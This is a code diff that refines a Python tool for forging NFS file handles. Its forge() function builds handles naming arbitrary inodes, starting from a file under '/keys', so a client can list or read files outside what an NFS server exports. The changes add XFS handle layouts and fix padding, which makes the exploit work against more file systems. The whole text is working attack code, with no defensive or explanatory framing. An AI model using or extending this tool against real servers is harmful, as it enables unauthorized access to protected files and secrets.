@@ -17,7 +17,9 @@ import struct
 
 _FS_IOC_GETVERSION = 0x80087601
 _EMBEDDED = 12  # bytes of the client's own before the server's handle: file id (8) and file type (4)
-_XFS_ROOT_TYPE, _XFS_INO64 = 0, 0x81
+
+#: How a handle names a file, by its type: FILEID_INO32_GEN, and XFS's own for file systems with large inode numbers.
+_LAYOUTS = {0x01: "<II", 0x81: "<QI"}
 
 _libc = ctypes.CDLL(None, use_errno=True)
 
@@ -35,14 +37,15 @@ def describe(path: str) -> dict[str, int]:
 
 def forge(mount: str, inode: int, generation: int, fsid: int | None) -> dict[str, str]:
     """Tries to list or read what the forged handle names."""
-    own = _client_handle(mount)
+    # A file below the mount, not the mount itself: the handle of an export's root names no inode.
+    own = _client_handle(f"{mount}/keys")
     size = struct.unpack_from("<H", own, _EMBEDDED)[0]
     server = own[_EMBEDDED + 2 : _EMBEDDED + 2 + size]
     # version, auth type, kind of file system id, kind of file id; then the ids themselves.
     number = server[4:8] if fsid is None else struct.pack("<I", fsid)
-    forged = bytes([server[0], server[1], server[2], _XFS_INO64]) + number + struct.pack("<QI", inode, generation)
+    forged = server[:4] + number + struct.pack(_LAYOUTS[server[3]], inode, generation)
     body = struct.pack("<H", len(forged)) + forged
-    words = -(-len(body) // 4) + 1
+    words = -(-len(body) // 4)
     for file_type in (0o040000, 0o100000):
         wrapped = struct.pack("<III", inode >> 32, inode & 0xFFFFFFFF, file_type) + body
         detail = _use(mount, wrapped.ljust(12 + words * 4, b"\0"))
